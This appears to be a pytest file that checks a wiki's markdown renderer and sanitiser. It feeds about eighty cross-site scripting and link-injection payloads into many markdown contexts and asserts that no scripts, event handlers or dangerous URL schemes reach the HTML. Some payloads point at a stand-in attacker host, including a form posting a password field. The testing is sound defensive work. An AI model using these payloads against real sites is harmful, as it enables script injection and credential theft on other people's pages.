"""What people try on wikis: nothing of it may live in the HTML that readers get."""

import html.parser
import re

import pytest

from kb.markup import outline, render
from kb.markup.sanitise import sanitise

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "<div style=position:fixed;inset:0>x</div>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<p id=root class=stApp>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](blob:https://x/y)",
    "[x](ms-word:ofe|u|https://evil.example)",
    "[x](intent://x#Intent;scheme=http;end)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](///evil.example)",
    "[x](https://ok.example 'a\" onclick=\"alert(1)')",
    '[x](https://ok.example "onmouseover=alert(1) x=")',
    '[x](<https://ok.example/" onclick="alert(1)>)',
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://ok.example/x.png)',
    '![x](https://ok.example/x.png"onerror="alert(1))',
    "<javascript:alert(1)>",
    "<javascript://%0aalert(1)>",
    '[[" onclick="alert(1)]]',
    "[[x|<img src=x onerror=alert(1)>]]",
    "[[javascript:alert(1)]]",
    "[[../../_stcore/metrics]]",
    "[x]: javascript:alert(1)\n\n[x]",
    "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: y",
    '```"><script>alert(1)</script>\nx\n```',
    "~~~ js onload=alert(1)\nx\n~~~",
    '!!! note" onclick="alert(1)\n    x',
    '!!! "><script>alert(1)</script>\n    x',
    '::: note "><script>alert(1)</script>\nx\n:::',
    "> [!NOTE]\n> <script>alert(1)</script>",
    '# <script>alert(1)</script> " onclick="alert(1)',
    "javascript:alert(1)",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/<script>alert(1)</script>",
    'a@b.example"onclick=alert(1)',
    "\u2028<script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
]

CONTEXTS = {
    "alone": "{}",
    "in a sentence": "Some words {} and more.",
    "in a heading": "## {}",
    "in a list": "- one\n- {}\n",
    "in a task": "- [ ] {}\n",
    "in a quotation": "> {}\n",
    "in an alert": "> [!WARNING]\n> {}\n",
    "in a table": "| a | b |\n|---|---|\n| {} | x |\n",
    "in a table's head": "| {} | b |\n|---|---|\n| x | x |\n",
    "in emphasis": "**{}**",
    "in a link's words": "[{}](https://ok.example)",
    "in a link's address": "[x](https://ok.example/{})",
    "in an image": "![{}](https://ok.example/x.png)",
    "in a footnote": "x[^1]\n\n[^1]: {}\n",
    "in an admonition": "!!! danger\n    {}\n",
    "in a title of an admonition": '!!! danger "{}"\n    x\n',
    "in a container": "::: tip\n{}\n:::\n",
    "in code": "`{}`",
    "after an open tag": "<div>\n{}\n",
    "in an attribute": '<a title="{}">',
}

TAGS = {
    "p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "a", "sup", "span", "ul", "ol",
    "li", "table", "thead", "tbody", "tr", "th", "td", "div", "section", "input",
    "h1", "h2", "h3", "h4", "h5", "h6",
}  # fmt: skip
ATTRIBUTES = {
    "href", "id", "class", "title", "rel", "target", "role", "tabindex", "aria-label", "style", "type",
    "disabled", "checked", "start",
}  # fmt: skip


class Inspector(html.parser.HTMLParser):
    """Reads HTML as a browser would, and fails on all that pages have no need of."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, (tag, name)
            if name == "href":
                assert re.match(r"(https?://|mailto:|tel:|#|/article\?slug=)", value or ""), value
            if name == "style":
                assert re.fullmatch(r"text-align:\s*(left|right|center);?", value or ""), value
            if name == "id":
                self.ids.append(value or "")
        if tag == "input":
            assert dict(attrs)["type"] == "checkbox"
            assert "disabled" in dict(attrs)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def resolve(href: str) -> str | None:
    return "/article?slug=known" if len(href) % 2 else None


def inspect(made: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(made)
    inspector.close()
    return inspector


@pytest.mark.parametrize("context", CONTEXTS)
def test_nothing_hostile_is_left_in_any_context(context: str) -> None:
    for payload in PAYLOADS:
        for body in (CONTEXTS[context].replace("{}", payload), payload + "\n\n" + CONTEXTS[context]):
            inspect(render(body, resolve))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_alone_would_hold_too(payload: str) -> None:
    made = sanitise(payload)
    assert not re.search(
        r"<(script|style|iframe|form|svg|object|embed|link|meta|base)\b|<img[^>]*\ssrc", made, re.IGNORECASE
    )
    assert not re.search(r"<[^>]*\son\w+\s*=", made, re.IGNORECASE)
    assert not re.search(r"<[^>]*href=\"?\s*(javascript|data|vbscript|blob|file)", made, re.IGNORECASE)


def test_an_open_tag_does_not_swallow_the_rest_of_the_page() -> None:
    for start in ("<script>", "<style>", "<textarea>", "<title>", "<!--", "<plaintext>", "<noscript>"):
        assert "the rest stays" in render(f"{start}\n\nthe rest stays\n", resolve)


def test_ids_are_those_of_headings_and_notes_and_nobody_else_s() -> None:
    body = "# __proto__\n\n## Root\n\n<p id=app>\n\n## stApp\n\nx[^1]\n\n[^1]: y\n"
    anchors = {heading.anchor for heading in outline(body)}
    ids = inspect(render(body, resolve)).ids
    assert set(ids) == anchors | {"fn1", "fnref1"}
    assert not any(anchor.startswith("_") or anchor != anchor.lower() for anchor in anchors)


def test_a_resolver_that_answers_badly_cannot_make_a_link_run() -> None:
    made = render("[x](a.md)", lambda _: "javascript:alert(1)")
    assert "javascript" not in made
